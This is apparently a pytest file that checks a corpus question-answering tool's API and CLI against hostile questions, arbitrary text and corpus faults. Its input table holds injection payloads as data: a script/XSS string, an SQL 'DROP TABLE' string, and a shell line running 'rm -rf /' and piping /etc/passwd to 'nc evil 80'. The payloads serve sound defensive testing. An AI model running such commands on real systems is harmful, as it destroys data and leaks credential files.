"""Hostile questions (Python API and the real CLI), arbitrary text (hypothesis), and corpus
faults (non-UTF-8, empty, binary, 50 MB, a FIFO): a clear reply or one clear line, never a
traceback or a hang, and every offset still true."""

from __future__ import annotations

import json
import os
import unicodedata

import pytest
from homes import Home, assert_one_line_error, make_home, run
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cqqa.answer import answer
from cqqa.errors import CqqaError, InputError
from cqqa.index import open_index, read_manifest, stale_reasons
from cqqa.records import Answer

PORTS = "How many ports does the western land and sea channel link with?"

REFUSED, ANSWERED, EITHER = "refused", "answered", "either"
# name -> (question, what must happen). "either": a clear reply or one clear InputError.
HOSTILE: dict[str, tuple[str, str]] = {
    "empty": ("", REFUSED),
    "blank": (" \t\n\u3000 ", REFUSED),
    "10,000 chars": ("How many ports? " * 625, REFUSED),
    "100,000 chars": ("x" * 100_000, REFUSED),
    "only control chars": ("\x00\x01\x02\x7f", REFUSED),
    "NUL and control chars": (
        "How many\x00 ports\x01 does the\x1b[31m channel\x07 link?",
        ANSWERED,
    ),
    "invalid surrogates": ("How many ports \ud800 link \udfff with?", ANSWERED),
    "emoji": ("🚄🚢 How many ports? 🇨🇳👍🏽", ANSWERED),
    "Chinese": ("重庆的国际陆海新通道连接了多少个港口？", ANSWERED),
    "right-to-left": ("كم عدد الموانئ؟ \u202eports many How\u202c", ANSWERED),
    "HTML and script": ('<script>alert("x")</script><img src=x onerror=alert(1)> ports?', ANSWERED),
    "Markdown link and image": (
        "![x](http://evil.example/x.png) [a](javascript:x) ports?",
        ANSWERED,
    ),
    "SQL": ("'; DROP TABLE chunks; -- How many ports? OR 1=1", ANSWERED),
    "shell": ("$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 80; ports?", ANSWERED),
    "digits only": ("1234567890 343.83 10,000", EITHER),
    "punctuation only": ("?!?!...,,;;--//\\\\", EITHER),
    "zero-width and format chars only": ("\u200b\u200d\ufeff\u2060", EITHER),
    "one very long word": ("x" * 1999, ANSWERED),
    "2,000 chars exactly": ("How many ports? " * 125, ANSWERED),
}
# The CLI's text output is also checked for these (each run costs a process start).
TEXT_TOO = {"NUL and control chars", "right-to-left", "HTML and script", "emoji", "shell"}


def check_answer(index, result: Answer, k: int = 5) -> None:
    """Everything an Answer points at can be found again in its document."""
    assert isinstance(result, Answer)
    assert len(result.passages) <= k
    assert [p.rank for p in result.passages] == list(range(1, len(result.passages) + 1))
    for p in result.passages:
        assert index.documents[p.doc].text[p.start : p.end] == p.text
    for f in result.facts:
        assert index.documents[f.doc].text[f.start : f.end] == f.text
    assert result.abstained == (result.answer is None)
    if result.answer is not None:
        a = result.answer
        assert index.documents[a.doc].text[a.start : a.end] == a.text
    json.dumps(result.to_dict(), ensure_ascii=False).encode("utf-8")  # printable as JSON


@pytest.mark.parametrize("name", HOSTILE, ids=list(HOSTILE))
def test_hostile_question_python_api(index, name):
    question, expected = HOSTILE[name]
    try:
        result = answer(index, question)
    except InputError as exc:
        assert expected != ANSWERED, f"refused: {exc}"
        message = str(exc)
        assert message and "\n" not in message
        assert "empty" in message or "limit is 2,000" in message or "question" in message
        return
    assert expected != REFUSED, "should have been refused"
    check_answer(index, result)
    assert result.passages, "a usable question always gets the closest passages"
    assert "\x00" not in result.question and "\ud800" not in result.question


@pytest.mark.parametrize("name", HOSTILE, ids=list(HOSTILE))
def test_hostile_question_cli(built, index, name):
    question, expected = HOSTILE[name]
    settings, _ = built
    home = Home(settings.corpus_dir.parent, settings.corpus_dir, settings.index_dir)
    # argv cannot carry NUL or lone surrogates: send NUL-free text, surrogates as raw bytes.
    arg = question.replace("\x00", "")
    if name == "invalid surrogates":
        arg = os.fsdecode(b"How many ports \xed\xa0\x80 link \xff\xfe with?")
    if name == "only control chars":
        arg = "\x01\x02\x7f\x1b"
    result = run("ask", "--json", "--", arg, home=home)
    if expected == REFUSED or (expected == EITHER and result.returncode == 2):
        assert_one_line_error(result, "question")
        return
    assert result.returncode == 0, result.stderr
    assert result.stderr == ""
    data = json.loads(result.stdout)
    documents = {doc_id: d.text for doc_id, d in index.documents.items()}
    for p in data["passages"]:
        assert documents[p["doc"]][p["start"] : p["end"]] == p["text"]
    if name not in TEXT_TOO:
        return
    # The text output too: readable, and no control character reaches the terminal.
    text = run("ask", "--", arg, home=home)
    assert text.returncode == 0, text.stderr
    assert "[1] " in text.stdout
    assert not any(unicodedata.category(c) == "Cc" and c not in "\n" for c in text.stdout)


def test_hostile_history_is_dropped_not_fatal(index):
    result = answer(
        index,
        "And how many countries and regions?",
        history=[PORTS, "", "x" * 100_000, "\x00\x01"],
    )
    check_answer(index, result)
    assert result.history == (PORTS,)
    assert "107" in result.answer.text


@pytest.mark.parametrize("question", [None, b"How many ports?", 319, ["How many ports?"]])
def test_non_text_question_is_an_input_error(index, question):
    with pytest.raises(InputError, match="must be text"):
        answer(index, question)


@pytest.mark.parametrize(
    "kwargs", [{"k": 0}, {"k": -1}, {"retriever": "bogus"}, {"history": "a string"}]
)
def test_bad_api_arguments_are_input_errors(index, kwargs):
    with pytest.raises(InputError):
        answer(index, PORTS, **kwargs)


def test_no_history_may_be_given_as_none(index):
    assert answer(index, PORTS, history=None).answer is not None


# ---------------------------------------------------------------- property


_ANY_CHAR = st.characters(exclude_categories=())
_NASTY_CHAR = st.characters(categories=["Cs", "Cc", "Cf", "Zs", "Mn"])
_WORDS = st.sampled_from(
    "how many ports channel Chongqing 319 343.83 US$5.5 10,000th U.S. Jiangbei airport "
    "routes Myanmar consulate July June percent billion ’s “ ” \u00a0 ? . , 重庆 🚄 <b> ]( "
    "DROP ; $( ` \\ \n".split(" ")
)
QUESTIONS = st.one_of(
    st.text(_ANY_CHAR, max_size=5000),
    st.text(st.one_of(_ANY_CHAR, _NASTY_CHAR), max_size=300),
    st.lists(_WORDS, max_size=900).map(" ".join).map(lambda s: s[:5000]),
)


def _has_content(text: str) -> bool:
    return any(unicodedata.category(c)[0] in "LN" for c in text)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    question=QUESTIONS, k=st.integers(1, 8), retriever=st.sampled_from(["hybrid", "dense", "bm25"])
)
def test_answer_never_raises_and_offsets_hold(index, question, k, retriever):
    """Arbitrary text up to 5,000 characters: only InputError (for text with nothing in it),
    and every passage, fact and answer offset valid."""
    try:
        result = answer(index, question, k=k, retriever=retriever, max_chars=5000)
    except InputError as exc:
        assert not _has_content(question), f"refused a question with content: {exc}"
        assert str(exc) and "\n" not in str(exc)
        return
    check_answer(index, result, k)
    if retriever != "bm25":  # BM25 alone finds nothing for words the corpus never uses
        assert result.passages


# ---------------------------------------------------------------- corpus faults


@pytest.fixture
def faulty_home(tmp_path, built) -> Home:
    """The article plus a good note, and one file of every kind that cannot be indexed."""
    home = make_home(tmp_path, built[0])
    (home.corpus / "notes").mkdir()
    (home.corpus / "notes" / "good.md").write_text(
        "# Harbour notes\n\nThe Qianxi harbour operates 41 gantry cranes.\n", encoding="utf-8"
    )
    (home.corpus / "legacy.txt").write_bytes("Caf\xe9 du port: 12 quais.\n".encode("latin-1"))
    (home.corpus / "empty.md").write_bytes(b"")
    (home.corpus / "blank.txt").write_bytes(b"  \n\n\t\n")
    (home.corpus / "binary.txt").write_bytes(b"\x7fELF\x02\x01\x01\x00\x00\x00" + bytes(range(256)))
    with open(home.corpus / "huge.txt", "wb") as handle:  # a real 50 MB text file
        line = b"The 50 MB file repeats this line about cranes and ports. " * 16 + b"\n"
        for _ in range(50 * 2**20 // len(line) + 1):
            handle.write(line)
    os.mkfifo(home.corpus / "pipe.txt")  # reading it would hang: it must be passed over
    (home.corpus / "dangling.md").symlink_to(home.root / "nowhere.md")
    return home


def test_corpus_faults_are_named_and_the_rest_is_indexed(faulty_home):
    home = faulty_home
    result = run("index", home=home, timeout=600)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    skipped = {
        line.split(":")[0].removeprefix("Skipped ").strip(): line
        for line in result.stderr.splitlines()
        if line.startswith("Skipped ")
    }
    corpus = home.corpus
    assert set(skipped) == {
        str(corpus / n) for n in ("legacy.txt", "empty.md", "blank.txt", "binary.txt", "huge.txt")
    }, result.stderr
    assert "not UTF-8" in skipped[str(corpus / "legacy.txt")]
    assert "empty" in skipped[str(corpus / "empty.md")]
    assert "empty" in skipped[str(corpus / "blank.txt")]
    assert "binary" in skipped[str(corpus / "binary.txt")]
    assert "over the limit" in skipped[str(corpus / "huge.txt")]
    assert "Indexed 2 documents" in result.stderr
    manifest = read_manifest(home.index)[1]
    assert set(manifest["documents"]) == {"chongqing-international-links", "notes/good"}
    # The skipped files are remembered: the index is current and asking does not rebuild.
    assert stale_reasons(home.settings, manifest) == []
    asked = run("ask", "How many gantry cranes does the Qianxi harbour operate?", "--json",
                home=home)  # fmt: skip
    assert asked.returncode == 0, asked.stderr
    assert asked.stderr == ""
    data = json.loads(asked.stdout)
    assert data["passages"][0]["doc"] == "notes/good"
    assert "41" in data["answer"]["text"]
    # Fixing a skipped file is a change like any other.
    (home.corpus / "legacy.txt").write_text("Café du port: 12 quais.\n", encoding="utf-8")
    result = run("index", home=home, timeout=600)
    assert result.returncode == 0, result.stderr
    assert "1 document changed (legacy)" in result.stderr
    assert "legacy" in read_manifest(home.index)[1]["documents"]


def test_oversized_document_in_process(tmp_path, built, monkeypatch):
    """The size limit as the library applies it (lowered so the file stays small)."""
    from cqqa import corpus

    home = make_home(tmp_path, built[0])
    (home.corpus / "big.txt").write_text("A big file about ports. " * 500, encoding="utf-8")
    monkeypatch.setattr(corpus, "MAX_DOCUMENT_BYTES", 8000)  # the article has 5,587 bytes
    notes: list[str] = []
    index = open_index(home.settings, note=notes.append)
    expected = f"Skipped {home.corpus / 'big.txt'}: it is 12,000 bytes, over the limit of 8,000"
    assert any(n.startswith(expected) for n in notes), notes
    assert set(index.documents) == {"chongqing-international-links"}


def test_corpus_path_that_is_a_file(tmp_path):
    """A corpus path that is a file, not a folder: one clear line."""
    blocker = tmp_path / "corpus.txt"
    blocker.write_text("not a folder")
    result = run("ask", PORTS, "--corpus", str(blocker), "--index", str(tmp_path / "index"))
    assert_one_line_error(result, "No corpus folder")


def test_cqqa_error_messages_say_what_to_do(tmp_path):
    """Every CqqaError the corpus and settings raise names a fix, in one line."""
    from cqqa.config import Settings
    from cqqa.corpus import load_corpus

    messages = []
    for call in (
        lambda: load_corpus(tmp_path / "missing"),
        lambda: Settings(k=0),
        lambda: Settings(retriever="x"),
        lambda: Settings.from_env({"CQQA_K": "many"}),
    ):
        with pytest.raises(CqqaError) as caught:
            call()
        messages.append(str(caught.value))
    for message in messages:
        assert "\n" not in message and message.endswith(".")
